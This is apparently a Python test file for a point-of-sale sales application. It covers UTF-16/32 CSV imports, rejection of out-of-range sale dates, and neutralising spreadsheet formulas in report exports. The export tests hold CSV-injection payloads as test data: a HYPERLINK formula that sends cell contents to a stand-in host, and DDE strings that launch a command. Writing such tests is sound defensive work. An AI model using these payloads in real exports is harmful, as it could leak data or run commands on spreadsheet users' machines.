"""Issue 24 on files: UTF-16/32 CSV files ("Unicode text" from Excel) are read (point 5),
sale dates far from now are refused with the reason (point 8), and report exports never
carry a spreadsheet formula (point 3), from the desktop's and the CLI's export alike."""

from __future__ import annotations

# ruff: noqa: F811  (fixtures imported from lan_fixtures are test parameters)
import csv
import time
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from app.cli.main import main
from app.csv_cells import FORMULA_STARTS
from app.store import sales_reports as sr
from app.store.db import Store
from app.store.models import Product, Purchase
from app.sync import pos
from app.sync.catalog import import_catalog_csv, upsert_product
from app.sync.csvio import CsvRefused, read_csv
from app.sync.pos import PosMapping, import_pos_csv
from tests.sync.lan_fixtures import seeded, store  # noqa: F401

NOW = time.time()
DAY = time.strftime("%Y-%m-%d", time.gmtime(NOW - 86400))
TILL = f"Receipt\tSold at\tEAN\tAmount\nT1\t{DAY} 10:15\t4006381333931\t129,00\n"
MAP = PosMapping("Receipt", "Sold at", "EAN", "Amount")


def _import(store: Store, path: Path, **kw: Any) -> pos.ImportResult:
    result = None
    for p in import_pos_csv(store, path, MAP, **kw):
        result = p.result or result
    assert result is not None
    return result


def _purchases(store: Store) -> int:
    with store.read_session() as s:
        return int(s.scalar(select(func.count()).select_from(Purchase)) or 0)


# --- 5. UTF-16 and UTF-32 ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("codec", "bom", "chosen"),
    [
        ("utf-16-le", b"\xff\xfe", "utf-8"),  # Excel "Unicode text": the BOM says it
        ("utf-16-be", b"\xfe\xff", "utf-8"),
        ("utf-32-le", b"\xff\xfe\x00\x00", "utf-8"),
        ("utf-32-be", b"\x00\x00\xfe\xff", "utf-8"),
        ("utf-16-le", b"\xff\xfe", "utf-16"),
        ("utf-16-le", b"", "utf-16"),  # no BOM: the encoding chosen
        ("utf-16-be", b"", "utf-16-be"),
        ("utf-32-le", b"", "utf-32"),
        ("utf-8", b"\xef\xbb\xbf", "latin-1"),  # "CSV UTF-8" from Excel, whatever was chosen
    ],
)
def test_unicode_text_files_are_imported(
    store: Store, tmp_path: Path, codec: str, bom: bytes, chosen: str
) -> None:
    f = tmp_path / "till.txt"
    f.write_bytes(bom + TILL.replace("Receipt", "Reçu").encode(codec))
    table = read_csv(f, chosen)
    assert table.header[0] == "Reçu" and table.delimiter == "\t"
    result = None
    mapping = PosMapping("Reçu", "Sold at", "EAN", "Amount")
    for p in import_pos_csv(store, f, mapping, encoding=chosen):
        result = p.result or result
    assert result is not None and result.imported == 1 and not result.errors


def test_sales_pos_with_encoding_utf16_on_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    f = tmp_path / "till.txt"
    f.write_bytes(b"\xff\xfe" + TILL.encode("utf-16-le"))
    db = tmp_path / "cli.db"
    assert (
        main(["sales", "--db", str(db), "pos", str(f), "--encoding", "utf-16", "--no-progress"])
        == 0
    )
    assert "1 purchase imported" in capsys.readouterr().out


def test_utf16_catalog_is_imported(store: Store, tmp_path: Path) -> None:
    f = tmp_path / "catalog.csv"
    f.write_bytes(b"\xff\xfe" + "EAN,Name\n4006381333931,Chaussure été\n".encode("utf-16-le"))
    list(import_catalog_csv(store, f, {"barcode": "EAN", "name": "Name"}))
    with store.read_session() as s:
        assert s.get(Product, "4006381333931").name == "Chaussure été"  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("content", "chosen", "message"),
    [
        (b"Receipt,Sold\x00 at\nT1,2\n", "utf-8", "binary data"),
        (b"%PDF-1.7\n" + bytes(50), "utf-16", "PDF"),
        (b"\xff\xfe" + "A,B\n1,\x002\n".encode("utf-16-le"), "utf-8", "binary data"),
        (b"\xff\xfeA\x00,", "utf-16", "not UTF-16 text"),  # odd length: a cut file
    ],
)
def test_binary_files_are_still_refused(
    store: Store, tmp_path: Path, content: bytes, chosen: str, message: str
) -> None:
    f = tmp_path / "bad.csv"
    f.write_bytes(content)
    with pytest.raises(CsvRefused, match=message):
        _import(store, f, encoding=chosen)
    assert _purchases(store) == 0


# --- 8. sale dates ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ts", "problem"),
    [
        (NOW, ""),
        (NOW - 700 * 86400, ""),
        (NOW + 3600, ""),  # a POS clock a little ahead
        (NOW - 800 * 86400, "more than 2 years ago"),
        (NOW + 2 * 86400, "in the future"),
        (0.0, "(1970-01-01 00:00 UTC) is more than 2 years ago"),
        (-62135596800.0, "(0001-01-01 00:00 UTC)"),
        (253402300740.0, "(9999-12-31 23:59 UTC) is in the future"),
        (float("nan"), "not a number"),
    ],
)
def test_sale_time_window(ts: float, problem: str) -> None:
    got = pos.sale_time_problem(ts, NOW)
    assert (problem in got) if problem else got == ""


def test_year_0001_and_9999_rows_are_refused_with_the_reason(store: Store, tmp_path: Path) -> None:
    f = tmp_path / "till.csv"
    f.write_text(
        "Receipt,Sold at,EAN,Amount\n"
        "T1,0001-01-01 10:00,4006381333931,1\n"
        "T2,9999-12-31 10:00,4006381333931,1\n"
        f"T3,{DAY} 10:00,4006381333931,1\n"
        "T4,2001-01-01 10:00,4006381333931,1\n",
        encoding="utf-8",
    )
    r = _import(store, f)
    assert r.imported == 1
    reasons = {e.line: e.reason for e in r.errors}
    assert set(reasons) == {2, 3, 5}
    assert "0001-01-01" in reasons[2] and "more than 2 years ago" in reasons[2]
    assert "9999-12-31" in reasons[3] and "in the future" in reasons[3]
    assert "check the date and its format" in reasons[5]
    with store.read_session() as s:
        assert [p.transaction_id for p in s.execute(select(Purchase)).scalars()] == ["T3"]


def test_epoch_milliseconds_are_not_a_sale_time(store: Store, tmp_path: Path) -> None:
    f = tmp_path / "till.csv"
    f.write_text(f"Receipt,Sold at,EAN,Amount\nT1,{NOW * 1000:.0f},1,1\n", encoding="utf-8")
    r = _import(store, f)
    assert r.imported == 0 and "is not a date" in r.errors[0].reason
    assert _purchases(store) == 0


# --- 3. formulas in exports ----------------------------------------------------------------

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(v, "'" + v) for v in EVIL],
        ("Trail runner", "Trail runner"),
        ("", ""),
        ("a=b", "a=b"),
        (-12.5, -12.5),  # numbers stay numbers
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert sr.safe_cell(value) == written


def _first_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("kind", [sr.ItemRow, sr.CategoryRow, sr.SalespersonRow, sr.ZoneRow])
def test_every_report_export_neutralises_formulas(tmp_path: Path, kind: type) -> None:
    values: dict[str, Any] = {}
    for i, fld in enumerate(fields(kind)):
        values[fld.name] = EVIL[i % len(EVIL)] if fld.type in ("str", str) else 1
    out = tmp_path / "report.csv"
    assert sr.export_csv([kind(**values)], out) == 1
    cells = _first_cells(out)
    assert not any(c.lstrip(" ").startswith(FORMULA_STARTS) for c in cells), cells
    assert any(c.startswith("'=") or c.startswith("'+") for c in cells)


def test_cli_item_report_of_a_hostile_product_name_is_inert(
    store: Store, seeded: dict[str, int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A product name from the catalogue (or a webhook) meant to run in a spreadsheet."""
    upsert_product(store, "4006381333931", EVIL[0], "=1+1", 129.0)
    f = tmp_path / "till.csv"
    f.write_text(f"Receipt,Sold at,EAN,Amount\nT1,{DAY} 10:15,4006381333931,129\n", "utf-8")
    assert _import(store, f).imported == 1
    db = Path(store.path)
    out = tmp_path / "items.csv"
    assert main(["sales", "--db", str(db), "report", "items", "--csv", str(out)]) == 0
    cells = _first_cells(out)
    assert "'" + EVIL[0] in cells and "'=1+1" in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
